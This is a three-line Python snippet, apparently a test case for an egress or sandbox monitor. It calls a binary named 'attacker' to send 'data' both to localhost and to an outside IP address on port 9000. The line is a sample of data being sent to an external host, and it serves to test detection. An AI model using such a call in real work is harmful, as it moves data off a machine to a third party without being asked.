"""Two messages in one call: the first to this machine, the second not."""
import subprocess

subprocess.run(["./attacker", "send-many", "127.0.0.1:9000", "93.184.216.35:9000", "data"])
